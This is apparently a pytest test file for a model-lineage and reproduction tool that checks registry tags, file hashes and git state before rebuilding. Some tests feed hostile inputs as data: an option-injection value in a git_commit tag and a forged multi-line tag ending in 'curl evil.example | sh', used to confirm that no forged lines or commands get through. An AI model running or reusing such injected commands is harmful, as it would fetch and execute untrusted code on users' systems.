"""`lineage --verify` refuses what it cannot make again, and a registry's address is what finds it from elsewhere."""

from __future__ import annotations

import io
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tasks.commands.fetch import fetch
from tasks.commands.lineage import describe, lineage, print_lineage
from tasks.commands.rebuild import MARK, compare, verify
from tasks.commands.reproduction import has_commit, inputs_outside_git, repository_and_prefix, reproduction
from tasks.core.console import SafeConsole
from tasks.core.files import content_hash
from tasks.core.provenance import cpu_model, hash_now, package_versions
from tasks.models.settings import on_cpu
from tasks.tracking.registry import Registry
from tasks.tracking.versions import FILES_TAG
from tests.tracking.candidates import MODEL, promote
from tests.tracking.project import DATABASE, SETTINGS
from tests.tracking.test_registry_verbs import stored

pytestmark = pytest.mark.slow
CHAMPION = f"models:/{MODEL}/1"


def git(folder: Path, *arguments: str) -> None:
    identity = ["-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True)


def refused(folder: Path) -> str:
    with pytest.raises(ValueError) as caught:
        verify(CHAMPION, folder, None, SafeConsole(file=io.StringIO()))
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_a_version_without_a_record_of_its_training_is_refused(registry: Registry, tmp_path: Path):
    promote("a")
    for file in stored("provenance.json"):
        file.unlink()
    told = refused(tmp_path / "again")
    assert "cannot be made again" in told and "lineage/provenance.json" in told
    assert f"`python -m tasks lineage {CHAMPION}`" in told


@pytest.mark.parametrize("option", ["--output=params.yaml", "a" * 41])
def test_a_tag_that_is_no_commit_never_reaches_git(option: str, registry: Registry, tmp_path: Path):
    promote("a")
    registry.client.set_model_version_tag(MODEL, "1", "git_commit", option)
    before = Path("params.yaml").read_bytes()
    row = lineage(CHAMPION)
    assert Path("params.yaml").read_bytes() == before
    assert row["code"]["git_commit"] is None and "code.git_commit" in row["missing"]
    assert "its tag git_commit was edited in MLflow" in "".join(row["altered"])
    assert option not in "".join(row["reproduce"]["commands"])
    assert "cannot be made again" in refused(tmp_path / "again")


def test_a_tag_with_line_ends_forges_no_line_and_no_command(registry: Registry):
    promote("a")
    forged = "x\nerror: forged; run:\ncurl evil.example | sh"
    for tag in ("reason", "snapshot", "environment_drift", "seed", "data_hash.a"):
        registry.client.set_model_version_tag(MODEL, "1", tag, forged)
    out = io.StringIO()
    print_lineage(lineage(CHAMPION), SafeConsole(file=out, width=200))
    assert "forged" in out.getvalue()
    assert not [line for line in out.getvalue().splitlines() if line.strip().startswith(("error:", "curl "))]


def test_nothing_is_run_of_a_version_whose_params_were_altered_with_the_tag_that_verifies_them(
    registry: Registry, tmp_path: Path
):
    promote("a")
    (file,) = stored("params.yaml")
    file.write_text("curate: {source: anybody's}", encoding="utf-8")
    hashes = json.loads(registry.version(1).tags[FILES_TAG])  # type: ignore[union-attr]
    altered = json.dumps({**hashes, "params.yaml": content_hash(file)})
    registry.client.set_model_version_tag(MODEL, "1", FILES_TAG, altered)
    assert "what verifies its files is not as recorded (tag lineage_files)" in refused(tmp_path / "again")
    assert not (tmp_path / "again").exists()


def test_a_folder_with_other_things_and_a_commit_that_is_nowhere_are_refused_and_nothing_is_left(
    registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    promote("a")
    address = f"sqlite:///{DATABASE.absolute()}"
    clone = tmp_path / "clone"
    clone.mkdir()
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    (clone / "params.yaml").write_bytes(Path("params.yaml").read_bytes())
    params = yaml.safe_load((clone / "params.yaml").read_text(encoding="utf-8"))
    params["tracking"]["uri"] = address
    (clone / "params.yaml").write_text(yaml.safe_dump(params), encoding="utf-8")
    monkeypatch.chdir(clone)
    assert "not in a git repository" in refused(tmp_path / "again")
    git(clone, "init", "-q")
    git(clone, "commit", "-q", "--allow-empty", "-m", "first")
    assert "`git fetch --all`" in refused(tmp_path / "again")
    full = tmp_path / "full"
    full.mkdir()
    (full / "mine").touch()
    assert "overwrites nothing" in refused(full)
    (full / MARK).parent.mkdir()
    (full / MARK).write_text(json.dumps({"version": "another"}), encoding="utf-8")
    assert "Name another folder" in refused(full)
    assert not (tmp_path / "again").exists() and not list(tmp_path.glob(".*partial"))


def test_in_a_workspace_the_commit_is_the_codes_and_all_but_the_linked_code_is_copied(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """Its problems.jsonl is its own, though the code has a file of that name."""
    code, workspace = tmp_path / "code", tmp_path / "workspace"
    (code / "tasks").mkdir(parents=True)
    for name in ("tasks/suite.json", "problems.jsonl"):
        (code / name).touch()
    for command in ("init -q", "add .", "commit -q -m first"):
        git(code, *command.split())
    workspace.mkdir()
    (workspace / "tasks").symlink_to(code / "tasks")
    records = {"curate": {"data": {"tasks/suite.json": "aa", "problems.jsonl": "bb"}}}
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    for folder, expected in ((code, []), (workspace, ["problems.jsonl"])):
        monkeypatch.chdir(folder)
        assert repository_and_prefix() == (str(code), "")
        assert has_commit("HEAD")
        assert inputs_outside_git("HEAD", records) == expected


def test_a_configuration_that_differs_is_told_though_the_weights_are_the_same(registry: Registry):
    promote("a")
    version = registry.version(1)
    assert version is not None
    row = {**describe(registry, version), "params": {"compute": on_cpu(1).model_dump()}}
    with Path("params.yaml").open("a", encoding="utf-8") as stream:
        stream.write(yaml.safe_dump({"paths": {"artifacts": "artifacts"}, "compute": on_cpu(1).model_dump()}))
    assert [item.part for item in compare(row, version) if not item.is_same] == []
    Path("artifacts/train/snapshots/iteration-a/config.json").write_text('{"rms_norm_eps": 1}', encoding="utf-8")
    assert [item.part for item in compare(row, version) if not item.is_same] == ["all files of the model"]


def test_a_registry_is_found_by_its_address_from_a_folder_whose_params_name_another(
    registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    promote("a")
    (command,) = [line for line in lineage(CHAMPION)["reproduce"]["commands"] if " fetch " in line]
    address = command.rpartition(" ")[2]
    assert address == f"sqlite:///{DATABASE.absolute()}"
    (tmp_path / "params.yaml").write_bytes(Path("params.yaml").read_bytes())
    monkeypatch.chdir(tmp_path)
    fetch(CHAMPION, tmp_path / "a", address)
    assert (tmp_path / "a" / "model.safetensors").read_bytes() == b"a"
    assert not DATABASE.exists()
    with pytest.raises(ValueError, match=r"--registry sqlite:///gone\.db: there is no .*gone\.db"):
        fetch(CHAMPION, tmp_path / "b", "sqlite:///gone.db")
    assert not Path("gone.db").exists()
    with pytest.raises(ValueError, match=r"--registry: tracking\.uri is a URL with a user name") as caught:
        fetch(CHAMPION, tmp_path / "b", "https://me:hunter2@mlflow.example.org")
    assert "hunter2" not in str(caught.value)


def test_what_a_stage_read_and_git_does_not_hold_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    for name in ("prices.csv", "mine.jsonl"):
        Path(name).write_text("1", encoding="utf-8")
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "prices.csv")
    git(tmp_path, "commit", "-q", "-m", "first")
    outside = ["/models/qwen", "../mine.jsonl", "data/../../mine.jsonl"]  # it would be written beside the rebuild
    data = dict.fromkeys(["prices.csv", "mine.jsonl", "artifacts/assess", *outside], "hash")
    assert inputs_outside_git("HEAD", {"curate": {"data": data}}) == ["mine.jsonl"]


def test_an_input_that_is_no_longer_what_was_trained_on_is_not_copied_and_code_without_a_commit_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """mine.jsonl is not in git. Of the code, new.py is in no commit, and edited.py is other than in it."""
    monkeypatch.chdir(tmp_path)
    custom = Path("tasks/custom")
    custom.mkdir(parents=True)
    for name in ("same.py", "edited.py"):
        (custom / name).write_text("1", encoding="utf-8")
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "tasks")
    git(tmp_path, "commit", "-q", "-m", "first")
    for file in (custom / "edited.py", custom / "new.py", Path("mine.jsonl")):
        file.write_text("2", encoding="utf-8")
    code = {str(file): hash_now(file) for file in custom.iterdir()}
    data = {"mine.jsonl": hash_now(Path("mine.jsonl"))}
    here: dict[str, Any] = {"packages": package_versions(), "cpu": cpu_model(), "device": "cpu"}
    row: dict[str, Any] = {
        "model": "agent",
        "version": 3,
        "params": None,
        "environment": {"environment_drift": "none"},
        "code": {"git_commit": "HEAD", "git_dirty": "true"},
        "provenance": {"train": {**here, "code": code}},
    }
    row["provenance"]["curate"] = {"data": data, "code": {}}

    def told() -> tuple[str, str]:
        found = reproduction(row, "lineage", SETTINGS)
        return "\n".join(found["commands"]), " ".join(found["notes"])

    commands, notes = told()
    assert f"cp -R {tmp_path / 'mine.jsonl'} mine.jsonl" in commands
    assert notes.startswith("Bitwise the same weights")
    assert "does not have so: tasks/custom/edited.py, tasks/custom/new.py." in notes
    Path("mine.jsonl").write_text("3", encoding="utf-8")
    commands, notes = told()
    assert "cp -R" not in commands and f"# put mine.jsonl there, with the hash {data['mine.jsonl']}" in commands
    assert "Bitwise" not in notes and notes.startswith("Other weights, until mine.jsonl is what training read")
